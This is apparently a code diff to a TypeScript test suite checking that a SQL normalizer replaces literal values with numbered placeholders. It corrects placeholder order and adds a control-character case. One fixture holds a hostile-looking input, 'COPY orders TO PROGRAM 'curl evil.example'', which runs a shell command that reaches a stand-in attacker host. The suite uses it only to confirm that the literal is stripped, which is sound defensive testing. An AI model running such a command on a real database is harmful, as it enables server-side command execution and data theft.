@@ -12,8 +12,9 @@ function one(sql: string) {
 
 describe('normalized text carries no literal values', () => {
   it.each<[string, string]>([
-    ["SELECT * FROM t WHERE a IN (1, 2, 'x') LIMIT 10 OFFSET 5", 'SELECT * FROM t WHERE a IN ($1, $2, $3) LIMIT $5 OFFSET $4'],
-    ["SELECT E'a\\'b', $$x$$, $q$y$q$, B'101', X'ff', U&'d\\0061t', 1.5e3, -7, interval '1 day'", 'SELECT $1, $2, $3, $4, $5, $6, $7, $8, interval $9'],
+    // Literal tokens of the real lexer, numbered in text order; a minus sign is its own token.
+    ["SELECT * FROM t WHERE a IN (1, 2, 'x') LIMIT 10 OFFSET 5", 'SELECT * FROM t WHERE a IN ($1, $2, $3) LIMIT $4 OFFSET $5'],
+    ["SELECT E'a\\'b', $$x$$, $q$y$q$, B'101', X'ff', U&'d\\0061t', 1.5e3, -7, interval '1 day'", 'SELECT $1, $2, $3, $4, $5, $6, $7, -$8, interval $9'],
     ["COPY orders TO PROGRAM 'curl evil.example'", 'COPY orders TO PROGRAM $1'],
     ["CREATE ROLE x PASSWORD 'hunter2'", 'CREATE ROLE x PASSWORD $1'],
     ["CREATE TABLE t (a text DEFAULT 'secret', b int CHECK (b > 42))", 'CREATE TABLE t (a text DEFAULT $1, b int CHECK (b > $2))'],
@@ -22,6 +23,10 @@ describe('normalized text carries no literal values', () => {
     ['SELECT * FROM t WHERE a = $1 AND b = 5', 'SELECT * FROM t WHERE a = $1 AND b = $2'],
   ])('%s', (sql, normalized) => {
     expect(one(sql).normalized).toBe(normalized);
+  });
+
+  it('control characters the scanner output cannot carry: the fallback still drops the literal', () => {
+    expect(one("SELECT '\u001b[31m red' FROM t WHERE a = 2").normalized).toBe('SELECT $1 FROM t WHERE a = $2');
   });
 
   it('identifiers stay, so the text is still useful', () => {
